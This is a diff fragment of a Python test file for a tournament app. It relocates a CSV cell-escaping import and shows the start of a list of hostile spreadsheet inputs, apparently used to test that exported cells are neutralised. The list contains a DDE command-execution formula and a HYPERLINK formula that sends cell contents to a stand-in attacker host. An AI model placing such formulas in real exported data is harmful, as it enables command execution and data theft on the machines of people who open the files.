@@ -9,10 +9,10 @@ import io
 
 import pytest
 
-from api.csv_export import csv_cell
 from tests.api.helpers import client_for
 from tests.factories import UserFactory
 from tournaments import services
+from tournaments.exports import csv_cell
 from tournaments.standings import standings_recompute
 
 HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
